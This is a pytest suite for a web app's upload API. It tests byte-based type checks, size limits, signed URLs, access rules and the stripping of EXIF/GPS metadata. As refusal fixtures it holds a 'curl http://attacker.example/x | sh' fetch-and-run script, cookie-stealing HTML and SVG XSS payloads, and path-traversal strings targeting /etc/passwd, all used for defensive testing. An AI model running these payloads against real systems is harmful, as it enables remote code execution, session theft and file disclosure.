"""Uploads through HTTP: typed by their bytes, size-limited, stored under random names, served back safely."""

from __future__ import annotations

import hashlib
import io
import random
import re
import struct
import time
import zlib
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from sqlalchemy import select

from fantasize.errors import Conflict
from fantasize.extensions import db
from fantasize.models import Upload, User
from tests.factories import Factory

API = "/api/v1"
UPLOADS = f"{API}/uploads"
UPLOAD_KEYS = {"id", "storedName", "url", "mimeType", "size", "sha256"}
STORED_NAME = re.compile(r"^[0-9a-f]{32}\.(jpg|png|webp|gif|pdf)$")
MIB = 1024 * 1024


def png_bytes(width: int = 1, height: int = 1) -> bytes:
    """A real PNG: an RGB image of the given size, all red."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


# A 1x1 transparent GIF89a.
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def jpeg_bytes() -> bytes:
    """A real JPEG (images are decoded before they are kept): 1x1, black."""
    out = io.BytesIO()
    Image.new("L", (1, 1)).save(out, "JPEG", optimize=True)
    return out.getvalue()


JPEG = jpeg_bytes()
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'


@pytest.fixture
def upload_folder(tmp_path: Path) -> Path:
    return tmp_path / "not-created-yet" / "uploads"


@pytest.fixture
def app(make_app, upload_folder):
    """This module's app keeps its files in a folder of its own, which does not exist until the first upload."""
    application = make_app(UPLOAD_FOLDER=str(upload_folder))
    with application.app_context():
        yield application


def send(client, content: bytes, name: str = "photo.png", content_type: str = "image/png", headers=None,
         field: str = "file"):
    return client.post(UPLOADS, headers=headers, content_type="multipart/form-data",
                       data={field: (io.BytesIO(content), name, content_type)})


def files_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


def fetch(client, path: str, **kwargs):
    response = client.get(path, **kwargs)
    response.get_data()  # read the body, then close: a file response holds its file open until closed
    response.close()
    return response


# Accepted files


def test_a_png_is_stored_under_a_random_name_and_described(client, factory, upload_folder):
    user = factory.user()
    content = png_bytes(2, 3)
    assert not upload_folder.exists()
    response = send(client, content, headers=factory.headers(user))
    assert response.status_code == 201
    body = response.json
    assert set(body) == UPLOAD_KEYS
    assert STORED_NAME.match(body["storedName"]) and body["storedName"].endswith(".png")
    assert body["url"].startswith(f"/api/v1/uploads/{body['storedName']}?expires=")  # signed: see below
    assert body["mimeType"] == "image/png"
    assert body["size"] == len(content)
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert files_in(upload_folder) == [body["storedName"]]  # no temporary file left behind
    assert (upload_folder / body["storedName"]).read_bytes() == content
    row = db.session.get(Upload, body["id"])
    assert (row.owner_id, row.original_name, row.stored_name) == (user.id, "photo.png", body["storedName"])


@pytest.mark.parametrize("content, mime, extension", [
    (GIF, "image/gif", "gif"),
    (PDF, "application/pdf", "pdf"),
    (JPEG, "image/jpeg", "jpg"),
    (WEBP, "image/webp", "webp"),
])
def test_each_allowed_type_is_recognised_by_its_bytes_whatever_it_claims(client, factory, content, mime, extension):
    response = send(client, content, name="innocent.txt", content_type="text/plain",
                    headers=factory.headers(factory.user()))
    assert response.status_code == 201, response.json
    assert response.json["mimeType"] == mime
    assert response.json["storedName"].endswith(f".{extension}")


def test_two_uploads_of_the_same_file_get_different_names(client, factory):
    headers = factory.headers(factory.user())
    first, second = (send(client, png_bytes(), headers=headers).json for _ in range(2))
    assert first["storedName"] != second["storedName"]
    assert first["sha256"] == second["sha256"]


def test_v2_wraps_the_upload_in_the_envelope(client, factory):
    response = client.post("/api/v2/uploads", headers=factory.headers(factory.user()),
                           content_type="multipart/form-data", data={"file": (io.BytesIO(GIF), "a.gif")})
    assert response.status_code == 201
    assert response.json["success"] is True and set(response.json["data"]) == UPLOAD_KEYS


# Refused files


@pytest.mark.parametrize("content, name, content_type", [
    (HTML, "x.png", "image/png"),
    (HTML, "index.html", "text/html"),
    (SCRIPT, "run.sh", "application/x-sh"),
    (SCRIPT, "holiday.jpg", "image/jpeg"),
    (SVG, "logo.svg", "image/svg+xml"),
    (b"just some text", "notes.pdf", "application/pdf"),
    (b"PK\x03\x04" + b"\x00" * 60, "archive.gif", "image/gif"),
])
def test_bytes_of_another_type_are_415_whatever_the_name_or_content_type(client, factory, upload_folder, content,
                                                                          name, content_type):
    response = send(client, content, name=name, content_type=content_type, headers=factory.headers(factory.user()))
    assert response.status_code == 415
    assert response.json["error"]["code"] == "UNSUPPORTED_MEDIA_TYPE"
    assert files_in(upload_folder) == []
    assert db.session.scalar(select(Upload)) is None


def test_a_file_over_max_upload_mb_is_413_and_one_at_the_limit_is_accepted(make_app, tmp_path):
    folder = tmp_path / "small"
    app = make_app(MAX_UPLOAD_MB=1, UPLOAD_FOLDER=str(folder))
    with app.app_context():
        factory = Factory(app)
        client = app.test_client()
        headers = factory.headers(factory.user())
        image = png_bytes()
        too_big = send(client, image + b"\x00" * (MIB + 1 - len(image)), headers=headers)
        assert too_big.status_code == 413
        assert too_big.json["error"]["code"] == "PAYLOAD_TOO_LARGE"
        assert files_in(folder) == []
        at_limit = send(client, image + b"\x00" * (MIB - len(image)), headers=headers)
        assert at_limit.status_code == 201
        assert files_in(folder) == [at_limit.json["storedName"]]
        # The zero padding after the image is accepted, but not kept: the stored file is the image alone.
        assert at_limit.json["size"] == len(image)
        assert (folder / at_limit.json["storedName"]).read_bytes() == image


def test_a_body_over_max_content_length_is_413(make_app, tmp_path):
    app = make_app(MAX_CONTENT_LENGTH=4096, UPLOAD_FOLDER=str(tmp_path / "bounded"))
    with app.app_context():
        factory = Factory(app)
        response = send(app.test_client(), png_bytes() + b"\x00" * 8192, headers=factory.headers(factory.user()))
        assert response.status_code == 413
        assert response.json["error"]["code"] == "PAYLOAD_TOO_LARGE"


def test_an_empty_file_is_422(client, factory, upload_folder):
    response = send(client, b"", headers=factory.headers(factory.user()))
    assert response.status_code == 422
    assert response.json["error"]["details"] == {"file": ["The file is empty."]}
    assert files_in(upload_folder) == []


def test_a_missing_file_field_is_422(client, factory):
    headers = factory.headers(factory.user())
    other_field = send(client, png_bytes(), field="image", headers=headers)
    assert other_field.status_code == 422
    assert other_field.json["error"]["details"] == {"file": ["Missing data for required field."]}
    text_value = client.post(UPLOADS, headers=headers, content_type="multipart/form-data", data={"file": "hello"})
    assert text_value.status_code == 422


def test_two_files_in_the_field_are_422(client, factory):
    response = client.post(UPLOADS, headers=factory.headers(factory.user()), content_type="multipart/form-data",
                           data={"file": [(io.BytesIO(GIF), "a.gif"), (io.BytesIO(PDF), "b.pdf")]})
    assert response.status_code == 422
    assert response.json["error"]["details"] == {"file": ["Send one file."]}


@pytest.mark.parametrize("kwargs", [
    {"json": {"file": "iVBORw0KGgo="}},
    {"data": png_bytes(), "content_type": "image/png"},
    {},
])
def test_a_body_that_is_not_multipart_is_415(client, factory, kwargs):
    response = client.post(UPLOADS, headers=factory.headers(factory.user()), **kwargs)
    assert response.status_code == 415
    assert response.json["error"]["code"] == "UNSUPPORTED_MEDIA_TYPE"


def test_uploading_needs_a_token(client, upload_folder):
    response = send(client, png_bytes())
    assert response.status_code == 401
    assert files_in(upload_folder) == []


def test_the_file_is_removed_when_its_row_cannot_be_committed(app, upload_folder):
    # Not reachable through HTTP without faking the database: an owner id with no user row fails the foreign key
    # at commit, which is exactly the failure whose file must not be left behind.
    # Imported here: fantasize.services.common imports the API package, so a service module imported on its own,
    # before any app exists, meets a circular import.
    from fantasize.services.uploads import store_upload

    ghost = User(id=10**9)
    with pytest.raises(Conflict):
        store_upload(ghost, io.BytesIO(png_bytes()), "photo.png")
    assert files_in(upload_folder) == []
    assert db.session.scalar(select(Upload)) is None


# The original name


@pytest.mark.parametrize("name, recorded", [
    ("../../etc/passwd.png", "passwd.png"),
    ("C:/Users/ada/Pictures/photo.png", "photo.png"),
    # A multipart header escapes a backslash as two; this one arrives as C:\Users\ada\photo.png.
    ("C:\\\\Users\\\\ada\\\\photo.png", "photo.png"),
    ("/var/www/uploads/../x.png", "x.png"),
    ("\u202egnp.exe", "gnp.exe"),
    ("Straße 名前 😀.png", "Straße 名前 😀.png"),
    ("O'Brien; DROP TABLE uploads;--.png", "O'Brien; DROP TABLE uploads;--.png"),
    ("..", None),
    ("a" * 300 + ".png", "a" * 251 + ".png"),
])
def test_the_original_name_is_recorded_as_a_safe_base_name(client, factory, name, recorded):
    response = send(client, png_bytes(), name=name, headers=factory.headers(factory.user()))
    assert response.status_code == 201
    assert db.session.get(Upload, response.json["id"]).original_name == recorded
    assert response.json["storedName"] != name


# Serving


def test_the_signed_url_serves_the_same_bytes_privately_with_safe_headers(client, factory):
    content = png_bytes(4, 4)
    created = send(client, content, name="photo.png", headers=factory.headers(factory.user())).json
    response = fetch(client, created["url"])  # no token: the signature is enough
    assert response.status_code == 200
    assert response.data == content
    assert response.mimetype == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("inline")
    assert "photo.png" in response.headers["Content-Disposition"]  # the uploader's own name, to the uploader
    cache = response.cache_control
    assert cache.private and cache.no_store and not cache.public and not cache.max_age and not cache.immutable
    assert "ETag" not in response.headers


def test_a_catalogue_image_is_public_cacheable_and_does_not_show_the_original_name(client, factory):
    created = send(client, png_bytes(4, 4), name="ada-holiday.png", headers=factory.headers(factory.admin())).json
    factory.attach_images(factory.product(), db.session.get(Upload, created["id"]))
    response = fetch(client, f"{UPLOADS}/{created['storedName']}")  # no token, no signature
    assert response.status_code == 200
    cache = response.cache_control
    assert cache.public and cache.max_age >= 365 * 24 * 3600 and cache.immutable and not cache.no_store
    assert response.headers["Content-Disposition"] == f"inline; filename={created['storedName']}"
    assert response.headers["ETag"] == f'"{created["sha256"]}"'
    unchanged = fetch(client, f"{UPLOADS}/{created['storedName']}", headers={"If-None-Match": response.headers["ETag"]})
    assert unchanged.status_code == 304


def test_a_pdf_is_served_as_an_attachment_named_for_what_it_is(client, factory):
    created = send(client, PDF, name="report.exe", content_type="application/x-msdownload",
                   headers=factory.headers(factory.user())).json
    response = fetch(client, created["url"])
    assert response.status_code == 200 and response.data == PDF
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == "attachment; filename=report.pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_files_are_served_under_every_version(client, factory):
    headers = factory.headers(factory.user())
    private = send(client, GIF, name="a.gif", headers=headers).json
    public = send(client, GIF, name="b.gif", headers=headers).json
    factory.attach_images(factory.product(), db.session.get(Upload, public["id"]))
    signature = private["url"].partition("?")[2]
    for prefix in ("/api/v1", "/api/v2", "/api"):
        for response in (fetch(client, f"{prefix}/uploads/{private['storedName']}?{signature}"),
                         fetch(client, f"{prefix}/uploads/{private['storedName']}", headers=headers),
                         fetch(client, f"{prefix}/uploads/{public['storedName']}")):
            assert response.status_code == 200 and response.data == GIF, prefix
        assert fetch(client, f"{prefix}/uploads/{private['storedName']}").status_code == 404, prefix


TRAVERSALS = (
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252F..%252Fetc%252Fpasswd",
    "%2Fetc%2Fpasswd",
    "..%2Fsecret.txt",
    "..\\..\\etc\\passwd",
    "....//....//etc/passwd",
    "..",
    "%00",
    "notes.txt",
    "0123456789abcdef0123456789abcdef.txt",
    "0123456789abcdef0123456789abcdef.png",
)


def test_traversal_and_unknown_names_are_404(client, factory, upload_folder):
    send(client, png_bytes(), headers=factory.headers(factory.user()))
    (upload_folder / "notes.txt").write_text("not an upload")
    (upload_folder / "0123456789abcdef0123456789abcdef.png").write_bytes(png_bytes())  # on disk, never recorded
    (upload_folder.parent / "secret.txt").write_text("outside the upload folder")
    for name in TRAVERSALS:
        response = fetch(client, f"{UPLOADS}/{name}")
        assert response.status_code == 404, name
        assert response.is_json and response.json["error"]["code"] == "NOT_FOUND", name


def test_near_misses_of_a_real_name_are_404(client, factory):
    headers = factory.headers(factory.user())  # the owner's: a miss is not a matter of permission
    name = send(client, png_bytes(), headers=headers).json["storedName"]
    for variant in (name.upper(), name + "%00", name + "/", "../uploads/" + name, "%2E%2E%2Fuploads%2F" + name,
                    name.replace(".png", ".gif"), name[1:], name + ".png"):
        assert fetch(client, f"{UPLOADS}/{variant}", headers=headers).status_code == 404, variant
    assert fetch(client, f"{UPLOADS}/{name}", headers=headers).status_code == 200


def test_a_recorded_upload_whose_file_is_gone_is_404(client, factory, upload_folder):
    created = send(client, png_bytes(), headers=factory.headers(factory.user())).json
    (upload_folder / created["storedName"]).unlink()
    assert fetch(client, created["url"]).status_code == 404


def test_the_openapi_document_describes_the_file_routes(client):
    document = client.get("/api/openapi.json").json
    post = document["paths"]["/api/v1/uploads"]["post"]
    form = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert form["required"] == ["file"] and form["properties"]["file"]["format"] == "binary"
    assert {"201", "401", "413", "415", "422"} <= set(post["responses"])
    get = document["paths"]["/api/v1/uploads/{stored_name}"]["get"]
    assert set(get["responses"]["200"]["content"]) == {"image/jpeg", "image/png", "image/webp", "image/gif",
                                                       "application/pdf"}
    assert "404" in get["responses"]


# Who may fetch a file: catalogue images are public; any other upload only its owner's and admins'


def private_upload(client, factory, content: bytes = PDF, name: str = "my-design.pdf"):
    """A customer's upload (as for a customization), its owner and its JSON."""
    owner = factory.user()
    return owner, send(client, content, name=name, headers=factory.headers(owner)).json


def plain(created: dict) -> str:
    return f"{UPLOADS}/{created['storedName']}"


def signed(created: dict) -> tuple[int, str]:
    query = parse_qs(urlsplit(created["url"]).query)
    return int(query["expires"][0]), query["signature"][0]


def assert_not_found(response, like) -> None:
    """404, and in every way the same answer as for a file that does not exist."""
    assert response.status_code == 404
    assert response.json["error"] == like.json["error"]
    assert "Content-Disposition" not in response.headers


def test_a_customers_upload_is_404_to_anyone_but_its_owner_and_admins(client, factory):
    owner, created = private_upload(client, factory)
    missing = fetch(client, f"{UPLOADS}/{'0' * 32}.pdf")
    stranger = factory.headers(factory.user())
    for response in (fetch(client, plain(created)), fetch(client, plain(created), headers=stranger)):
        assert_not_found(response, missing)
    for headers in (factory.headers(owner), factory.headers(factory.admin())):
        response = fetch(client, plain(created), headers=headers)
        assert response.status_code == 200 and response.data == PDF
        assert response.cache_control.private and response.cache_control.no_store
        assert response.headers["Content-Disposition"] == "attachment; filename=my-design.pdf"


def test_a_wrong_expired_or_borrowed_signature_is_404(app, client, factory):
    from fantasize.services.uploads import signed_url

    _, created = private_upload(client, factory)
    _, other = private_upload(client, factory)
    expires, signature = signed(created)
    missing = fetch(client, f"{UPLOADS}/{'0' * 32}.pdf")
    expired = signed_url(db.session.get(Upload, created["id"]), lifetime=-1)
    flipped = signature[:-1] + ("0" if signature[-1] != "0" else "1")
    for url in (
        f"{plain(created)}?expires={expires}&signature={flipped}",
        f"{plain(created)}?expires={expires + 3600}&signature={signature}",  # a later expiry is not signed
        f"{plain(created)}?expires={expires}",
        f"{plain(created)}?signature={signature}",
        f"{plain(created)}?expires={expires}&signature={signature.upper()}",
        f"{plain(created)}?expires={expires}&signature=%C3%A9t%C3%A9",  # not ASCII
        f"{plain(other)}?expires={expires}&signature={signature}",  # another file's signature
        expired,
    ):
        assert_not_found(fetch(client, url), missing)
    assert fetch(client, created["url"]).status_code == 200


def test_the_signature_lasts_upload_url_ttl_seconds_and_depends_on_the_secret(make_app, tmp_path):
    from fantasize.services.uploads import signed_url

    folder = str(tmp_path / "ttl")
    app = make_app(UPLOAD_FOLDER=folder, UPLOAD_URL_TTL_SECONDS=120)
    with app.app_context():
        factory = Factory(app)
        client = app.test_client()
        before = int(time.time())
        created = send(client, GIF, headers=factory.headers(factory.user())).json
        expires, _ = signed(created)
        assert before + 120 <= expires <= int(time.time()) + 120
        assert fetch(client, created["url"]).status_code == 200
    # The same database and file under another secret: the old signature is worth nothing, a new one works.
    other = make_app(UPLOAD_FOLDER=folder, UPLOAD_URL_TTL_SECONDS=120, JWT_SECRET="another secret " * 4)
    with other.app_context():
        client = other.test_client()
        assert fetch(client, created["url"]).status_code == 404
        assert fetch(client, signed_url(db.session.get(Upload, created["id"]))).status_code == 200


@pytest.mark.parametrize("query", ["expires=soon&signature=abc", f"expires={2**64}&signature=abc",
                                   "expires=1&signature=" + "a" * 200])
def test_a_malformed_signed_url_is_400(client, factory, query):
    _, created = private_upload(client, factory)
    response = fetch(client, f"{plain(created)}?{query}")
    assert response.status_code == 400
    assert response.json["error"]["code"] == "BAD_REQUEST"


def test_a_bad_token_is_401_even_for_a_public_file(client, factory):
    _, created = private_upload(client, factory, GIF, "a.gif")
    factory.attach_images(factory.product(), db.session.get(Upload, created["id"]))
    assert fetch(client, plain(created), headers={"Authorization": "Bearer nonsense"}).status_code == 401


@pytest.mark.parametrize("attach", ["product", "package", "category"])
def test_an_image_of_an_active_catalogue_item_is_public_and_private_again_once_the_item_is_not(client, factory,
                                                                                            attach):
    _, created = private_upload(client, factory, GIF, "a.gif")
    upload = db.session.get(Upload, created["id"])
    if attach == "category":
        item = factory.category(image_id=upload.id)
    else:
        item = factory.attach_images(getattr(factory, attach)(), upload)
    public = fetch(client, plain(created))
    assert public.status_code == 200 and public.cache_control.public
    item.is_active = False
    db.session.commit()
    assert fetch(client, plain(created)).status_code == 404
    assert fetch(client, plain(created), headers=factory.headers(factory.admin())).status_code == 200


def test_a_customization_image_in_a_cart_stays_private(client, factory):
    owner, created = private_upload(client, factory, GIF, "my-face.gif")
    picture = factory.customization(type="image", options=[])
    product = factory.product(customizations=[picture])
    line = client.post(f"{API}/cart/items", headers=factory.headers(owner), json={
        "productId": product.id, "quantity": 1, "customizations": [{"customizationId": picture.id,
                                                                    "value": created["id"]}]})
    assert line.status_code == 201, line.json
    assert fetch(client, plain(created)).status_code == 404
    assert fetch(client, created["url"]).status_code == 200


# Metadata: images keep their pixels and lose EXIF, XMP and comments


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>secret-place</rdf:Description></x:xmpmeta>'
GPS_POSITION = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
                ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0)}


def photo(mode: str = "RGB", size: tuple[int, int] = (24, 16)) -> Image.Image:
    """A picture whose every pixel differs, so any change to the pixels shows."""
    return Image.frombytes(mode, size, random.Random(7).randbytes(size[0] * size[1] * len(mode)))


def gps_exif(orientation: int | None = None) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Ada's phone"
    exif[ExifTags.Base.ImageDescription] = "home sweet home"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS_POSITION)
    return exif.tobytes()


def saved(picture: Image.Image, format: str, **options) -> bytes:
    out = io.BytesIO()
    picture.save(out, format, **options)
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "my comment")
    info.add_text("Location", "home sweet home", zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return saved(photo("RGBA"), "PNG", pnginfo=info, exif=gps_exif())


def gif_with_metadata() -> bytes:
    data = saved(photo("P"), "GIF", comment=b"my comment")
    header_end = 13 + (3 << ((data[10] & 7) + 1) if data[10] & 0x80 else 0)
    xmp = b"\x21\xff\x0bXMP DataXMP" + bytes([len(XMP)]) + XMP + b"\x00"  # an application extension
    return data[:header_end] + xmp + data[header_end:]


EXIF_TEXT, XMP_TEXT, COMMENT = (b"Ada's phone", b"home sweet home"), (b"secret-place",), (b"my comment",)
# Each image with metadata, and the texts of its metadata.
WITH_METADATA = {
    "jpeg": (lambda: saved(photo(), "JPEG", quality=90, exif=gps_exif(), xmp=XMP, comment=b"my comment"),
             EXIF_TEXT + XMP_TEXT + COMMENT),
    "progressive-jpeg": (lambda: saved(photo(), "JPEG", progressive=True, exif=gps_exif(), comment=b"my comment"),
                         EXIF_TEXT + COMMENT),
    "png": (png_with_metadata, EXIF_TEXT + XMP_TEXT + COMMENT),
    "webp-lossless": (lambda: saved(photo("RGBA"), "WEBP", lossless=True, exif=gps_exif(), xmp=XMP),
                      EXIF_TEXT + XMP_TEXT),
    "webp-lossy": (lambda: saved(photo(), "WEBP", quality=80, exif=gps_exif(), xmp=XMP), EXIF_TEXT + XMP_TEXT),
    "gif": (gif_with_metadata, XMP_TEXT + COMMENT),
}


def decoded(content: bytes) -> tuple[str, tuple[int, int], bytes]:
    with Image.open(io.BytesIO(content)) as picture:
        picture.load()
        return picture.mode, picture.size, picture.tobytes()


@pytest.mark.parametrize("kind", list(WITH_METADATA))
def test_an_image_is_stored_without_its_metadata_and_with_the_same_pixels(client, factory, upload_folder, kind):
    build, secrets = WITH_METADATA[kind]
    content = build()
    assert all(secret in content for secret in secrets)
    response = send(client, content, name=f"photo.{kind}", headers=factory.headers(factory.user()))
    assert response.status_code == 201, response.json
    stored = (upload_folder / response.json["storedName"]).read_bytes()
    for secret in secrets:
        assert secret not in stored, secret
    with Image.open(io.BytesIO(stored)) as picture:
        assert not picture.getexif()
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Comment", "Location"} & set(picture.info)
    assert decoded(stored) == decoded(content)
    # The JSON describes the file as stored, and the file is served as stored.
    assert response.json["size"] == len(stored)
    assert response.json["sha256"] == hashlib.sha256(stored).hexdigest()
    assert fetch(client, response.json["url"]).data == stored


def test_a_jpeg_with_gps_exif_is_kept_without_it(client, factory, upload_folder):
    """The acceptance case: a customer's photo with a GPS position; the stored copy has no EXIF at all."""
    content = saved(photo(), "JPEG", exif=gps_exif())
    with Image.open(io.BytesIO(content)) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo) == GPS_POSITION
    created = send(client, content, name="holiday.jpg", headers=factory.headers(factory.user())).json
    stored = (upload_folder / created["storedName"]).read_bytes()
    assert b"Exif\0\0" not in stored
    with Image.open(io.BytesIO(stored)) as kept:
        assert "exif" not in kept.info and not kept.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert decoded(stored) == decoded(content)


@pytest.mark.parametrize("format, options", [("JPEG", {}), ("PNG", {}), ("WEBP", {"lossless": True})])
def test_the_orientation_is_the_one_exif_value_kept(client, factory, upload_folder, format, options):
    content = saved(photo(), format, exif=gps_exif(orientation=6), **options)
    created = send(client, content, headers=factory.headers(factory.user())).json
    stored = (upload_folder / created["storedName"]).read_bytes()
    with Image.open(io.BytesIO(stored)) as kept:
        exif = kept.getexif()
        assert dict(exif) == {ExifTags.Base.Orientation: 6}  # so a photo taken sideways still shows upright
        assert not exif.get_ifd(ExifTags.IFD.GPSInfo)
    assert decoded(stored) == decoded(content)


def test_colour_profiles_and_animation_are_kept(client, factory, upload_folder):
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    headers = factory.headers(factory.user())
    jpeg = send(client, saved(photo(), "JPEG", icc_profile=profile, exif=gps_exif()), headers=headers).json
    with Image.open(upload_folder / jpeg["storedName"]) as kept:
        assert kept.info["icc_profile"] == profile
    frames = [photo("P"), photo("P").transpose(Image.Transpose.FLIP_LEFT_RIGHT)]
    animated = saved(frames[0], "GIF", save_all=True, append_images=frames[1:], loop=0, duration=100,
                     comment=b"my comment")
    gif = send(client, animated, headers=headers).json
    with Image.open(upload_folder / gif["storedName"]) as kept, Image.open(io.BytesIO(animated)) as original:
        assert (kept.n_frames, kept.info["loop"]) == (2, 0)
        for frame in range(2):
            kept.seek(frame)
            original.seek(frame)
            assert kept.convert("RGB").tobytes() == original.convert("RGB").tobytes()
